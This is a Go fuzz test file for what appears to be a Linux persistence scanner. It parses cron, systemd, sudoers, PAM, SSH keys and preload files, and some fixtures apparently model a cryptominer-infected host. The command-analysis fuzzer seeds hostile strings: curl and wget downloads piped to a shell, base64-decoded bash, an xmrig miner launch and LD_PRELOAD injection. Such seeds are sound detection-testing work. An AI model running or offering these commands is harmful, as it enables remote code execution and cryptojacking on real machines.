package persist

import (
	"bytes"
	"errors"
	"os"
	"path"
	"path/filepath"
	"strings"
	"testing"

	"github.com/abusekit/abusekit/plugins/persist/hosttest"
)

// seeds adds the fixture files at paths as seeds.
func seeds(f *testing.F, paths ...string) {
	trees := []hosttest.Tree{hosttest.Kinsing(hosttest.Work32(hosttest.Debian12(), "/home/admin")), hosttest.AmazonLinux2023(), hosttest.Ubuntu2204()}
	for _, t := range trees {
		for _, p := range paths {
			if e, ok := t.Get(p); ok && e.Data != "" {
				f.Add([]byte(e.Data))
			}
		}
	}
}

func lineCount(data []byte) int { return len(splitLines(data)) }

func FuzzParseCrontab(f *testing.F) {
	seeds(f, "/etc/crontab", "/etc/cron.d/e2scrub_all", "/etc/cron.d/0hourly", "/var/spool/cron/crontabs/root")
	f.Fuzz(func(t *testing.T, data []byte) {
		n := lineCount(data)
		for _, system := range []bool{true, false} {
			for _, l := range parseCrontab(data, system) {
				if l.Line < 1 || l.Line > n {
					t.Fatalf("line %d of %d", l.Line, n)
				}
				if !l.Env && l.Err == nil && !strings.Contains(l.Raw, strings.TrimSpace(l.Command)) {
					t.Fatalf("command %q not in line %q", l.Command, l.Raw)
				}
			}
		}
		for _, l := range parseAnacrontab(data) {
			if l.Line < 1 || l.Line > n {
				t.Fatalf("anacron line %d of %d", l.Line, n)
			}
		}
	})
}

func FuzzParseUnit(f *testing.F) {
	seeds(f, "/usr/lib/systemd/system/ssh.service", "/etc/systemd/system/bot.service", "/etc/systemd/system/ssh.service.d/override.conf", "/usr/lib/systemd/system/amazon-ssm-agent.service")
	f.Fuzz(func(t *testing.T, data []byte) {
		n := lineCount(data)
		for _, e := range parseUnit(data) {
			if e.Line < 1 || e.Line > n || e.Key == "" {
				t.Fatalf("entry %+v of %d lines", e, n)
			}
		}
	})
}

func FuzzParsePasswd(f *testing.F) {
	seeds(f, "/etc/passwd", "/etc/shadow")
	f.Fuzz(func(t *testing.T, data []byte) {
		n := lineCount(data)
		for _, e := range parsePasswd(data) {
			if e.Line < 1 || e.Line > n {
				t.Fatalf("line %d of %d", e.Line, n)
			}
			if e.Err == nil && strings.Contains(e.Name, ":") {
				t.Fatalf("name %q", e.Name)
			}
		}
		for _, e := range parseShadow(data) {
			if e.Line < 1 || e.Line > n || e.Name == "" {
				t.Fatalf("shadow %+v", e)
			}
		}
	})
}

func FuzzParseAuthorizedKeys(f *testing.F) {
	seeds(f, "/root/.ssh/authorized_keys", "/home/admin/.ssh/authorized_keys", "/root/.ssh/authorized_keys2")
	f.Fuzz(func(t *testing.T, data []byte) {
		n := lineCount(data)
		for _, k := range parseAuthorizedKeys(data) {
			if k.Line < 1 || k.Line > n {
				t.Fatalf("line %d of %d", k.Line, n)
			}
			if k.Err == nil && !isKeyType(k.Type) {
				t.Fatalf("type %q accepted", k.Type)
			}
			_, _ = optionValue(k.Options, "command")
		}
	})
}

func FuzzParseHostsAndUdev(f *testing.F) {
	seeds(f, "/etc/hosts", "/etc/udev/rules.d/99-sys.rules", "/usr/lib/udev/rules.d/99-systemd.rules", "/usr/lib/udev/rules.d/85-hwclock.rules")
	f.Fuzz(func(t *testing.T, data []byte) {
		n := lineCount(data)
		for _, e := range parseHosts(data) {
			if e.Line < 1 || e.Line > n || len(e.Names) == 0 {
				t.Fatalf("hosts %+v", e)
			}
		}
		for _, c := range parseUdevRules(data) {
			if c.Line < 1 || c.Line > n {
				t.Fatalf("udev %+v", c)
			}
		}
	})
}

func FuzzAnalyzeCommand(f *testing.F) {
	for _, s := range []string{"wget -q -O - http://x/y.sh | sh", "/tmp/.X11-unix/.work32 >/dev/null 2>&1", "cd / && run-parts --report /etc/cron.hourly",
		`bash -c "$(curl -fsSL http://x/i.sh)"`, "echo aGk= | base64 -d | bash", "/dev/shm/.x/xmrig -o stratum+tcp://p:1 --donate-level 1",
		"cd /var/tmp/.x && nohup ./run >/dev/null 2>&1 &", `env -S "LD_PRELOAD=/tmp/.l.so /bin/true"`, "screen -dmS x sh -c '/tmp/.a; `/tmp/.b`'",
		`case "$f" in /tmp/*) rm "$f";; esac`, "tar czf /var/tmp/etc.tgz /etc 2>&1 | logger"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		v := analyzeCommand(cmd)
		if v.sev < Info || v.sev > Critical {
			t.Fatalf("severity %v", v.sev)
		}
		for _, r := range v.refs {
			if !strings.HasPrefix(r, "/") {
				t.Fatalf("ref %q", r)
			}
		}
		targets := execTargets(cmd)
		if len(targets) > maxRefs {
			t.Fatalf("%d targets", len(targets))
		}
		for _, p := range targets {
			if !strings.HasPrefix(p, "/") || strings.ContainsAny(p, "*?[") {
				t.Fatalf("target %q", p)
			}
		}
	})
}

func FuzzDropLines(f *testing.F) {
	f.Add([]byte("a\nb\nc\n"), 2)
	f.Add([]byte("a\r\nb"), 2)
	f.Add([]byte("\n\n\n"), 1)
	f.Fuzz(func(t *testing.T, data []byte, n int) {
		lines := splitLines(data)
		if n < 1 || n > len(lines) {
			if _, _, err := dropLines(data, []LineChange{{Line: n, Content: "x"}}); err == nil && (n < 1 || n > len(lines)) {
				t.Fatalf("dropped a line that does not exist: %d of %d", n, len(lines))
			}
			return
		}
		out, removed, err := dropLines(data, []LineChange{{Line: n, Content: lines[n-1]}})
		if err != nil {
			t.Fatal(err)
		}
		if len(removed) != 1 || removed[0].Content != lines[n-1] {
			t.Fatalf("removed %+v", removed)
		}
		// Put the line back: the original bytes return exactly.
		var b bytes.Buffer
		rest := data
		for i := 1; len(rest) > 0; i++ {
			j := bytes.IndexByte(rest, '\n')
			var l []byte
			if j < 0 {
				l, rest = rest, nil
			} else {
				l, rest = rest[:j+1], rest[j+1:]
			}
			if i != n {
				b.Write(l)
			}
		}
		if !bytes.Equal(b.Bytes(), out) {
			t.Fatalf("dropLines(%q, %d) = %q, want %q", data, n, out, b.Bytes())
		}
	})
}

func FuzzParseMD5Sums(f *testing.F) {
	seeds(f, "/var/lib/dpkg/info/cron.md5sums", "/var/lib/dpkg/info/systemd.md5sums", "/var/lib/dpkg/info/snapd.md5sums")
	f.Fuzz(func(t *testing.T, data []byte) {
		into := map[string]pkgFile{}
		parseMD5Sums(data, "pkg", into)
		if len(into) > bytes.Count(data, []byte("\n"))+1 {
			t.Fatalf("%d entries from %d lines", len(into), bytes.Count(data, []byte("\n"))+1)
		}
		for p, pf := range into {
			if strings.HasPrefix(p, "/") || len(pf.digest) != 32 || pf.pkg != "pkg" || pf.conffile {
				t.Fatalf("entry %q: %+v", p, pf)
			}
		}
	})
}

func FuzzParseDpkgConffiles(f *testing.F) {
	seeds(f, "/var/lib/dpkg/status")
	f.Fuzz(func(t *testing.T, data []byte) {
		into := map[string]pkgFile{}
		parseDpkgConffiles(data, into)
		for p, pf := range into {
			if !pf.conffile || !bytes.Contains(data, []byte("/"+p)) {
				t.Fatalf("entry %q: %+v", p, pf)
			}
		}
	})
}

func FuzzReadManifest(f *testing.F) {
	f.Add([]byte(`{"version":1,"root":"/","entries":[{"seq":1,"path":"/etc/cron.d/x","op":"quarantine"}]}`))
	f.Add([]byte(`{"version":1,"entries":[{"path":"etc/../x"}]}`))
	f.Add([]byte(`{"version":2}`))
	dir := f.TempDir()
	f.Fuzz(func(t *testing.T, data []byte) {
		p := filepath.Join(dir, "manifest.json")
		if err := os.WriteFile(p, data, 0o600); err != nil {
			t.Fatal(err)
		}
		m, err := ReadManifest(p)
		if err != nil {
			if !errors.Is(err, ErrBadManifest) {
				t.Fatalf("error %v does not wrap ErrBadManifest", err)
			}
			return
		}
		for _, e := range m.Entries {
			if !strings.HasPrefix(e.Path, "/") || path.Clean(e.Path) != e.Path {
				t.Fatalf("accepted path %q", e.Path)
			}
		}
	})
}

func FuzzParseSudoers(f *testing.F) {
	seeds(f, "/etc/sudoers", "/etc/sudoers.d/90-cloud-init-users", "/etc/sudoers.d/README", "/etc/sudoers.d/hilde")
	f.Fuzz(func(t *testing.T, data []byte) {
		n := lineCount(data)
		for _, l := range parseSudoers(data) {
			if l.Line < 1 || l.Line > n {
				t.Fatalf("line %d of %d", l.Line, n)
			}
			if l.Kind == sudoSpec && l.Who == "" {
				t.Fatalf("spec without a user: %+v", l)
			}
			for _, c := range l.Commands {
				if c == "" || c != strings.TrimSpace(c) {
					t.Fatalf("command %q", c)
				}
			}
		}
	})
}

func FuzzParseSSHDKeySources(f *testing.F) {
	seeds(f, "/etc/ssh/sshd_config", "/etc/ssh/sshd_config.d/50-redhat.conf", "/etc/ssh/sshd_config.d/60-cloudimg-settings.conf")
	f.Fuzz(func(t *testing.T, data []byte) {
		n := lineCount(data)
		for _, d := range parseSSHDKeySources(data) {
			if d.Line < 1 || d.Line > n || !sshdKeyDirectives[d.Name] || len(d.Args) == 0 {
				t.Fatalf("directive %+v of %d lines", d, n)
			}
			// judging it must not panic either (args[0] is read)
			_ = judgeSSHDirective(d.Name, d.Args)
		}
	})
}

func FuzzParsePAM(f *testing.F) {
	seeds(f, "/etc/pam.d/sshd", "/etc/pam.d/system-auth", "/etc/pam.d/common-session")
	f.Fuzz(func(t *testing.T, data []byte) {
		n := lineCount(data)
		for _, l := range parsePAM(data) {
			if l.Line < 1 || l.Line > n || l.Module == "" {
				t.Fatalf("pam %+v of %d lines", l, n)
			}
			if l.Exec && !strings.HasSuffix(l.Module, "pam_exec.so") {
				t.Fatalf("exec without pam_exec: %+v", l)
			}
			for _, m := range l.ModPaths {
				if !strings.HasPrefix(m, "/") {
					t.Fatalf("module path %q", m)
				}
			}
		}
	})
}

func FuzzParsePreload(f *testing.F) {
	seeds(f, "/etc/ld.so.preload", "/etc/ld.so.conf", "/etc/ld.so.conf.d/x86_64-linux-gnu.conf", "/etc/ld.so.conf.d/libc.conf")
	f.Fuzz(func(t *testing.T, data []byte) {
		n := lineCount(data)
		for _, l := range parsePreload(data) {
			if l.Line < 1 || l.Line > n || len(l.Libs) == 0 {
				t.Fatalf("preload %+v of %d lines", l, n)
			}
			for _, lib := range l.Libs {
				if lib == "" || strings.ContainsAny(lib, " \t:") {
					t.Fatalf("library %q", lib)
				}
			}
		}
		for _, l := range parseLdSoConf(data) {
			if l.Line < 1 || l.Line > n || l.Dir == "" || strings.ContainsAny(l.Dir, " \t:,#=") {
				t.Fatalf("ld.so.conf %+v of %d lines", l, n)
			}
		}
	})
}

func FuzzParseModules(f *testing.F) {
	f.Add([]byte("# /etc/modules\nloop\nlp opt=1\n;x\n"))
	f.Add([]byte("blacklist pcspkr\ninstall usb-storage /bin/true\nremove x /bin/sh -c 'rmmod x'\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		n := lineCount(data)
		for _, m := range parseModulesLoad(data) {
			if m.Line < 1 || m.Line > n || m.Name == "" || strings.Contains(m.Name, "-") {
				t.Fatalf("module %+v of %d lines", m, n)
			}
		}
		for _, h := range parseModprobeHooks(data) {
			if h.Line < 1 || h.Line > n || (h.Verb != "install" && h.Verb != "remove") || h.Command == "" {
				t.Fatalf("hook %+v of %d lines", h, n)
			}
		}
	})
}
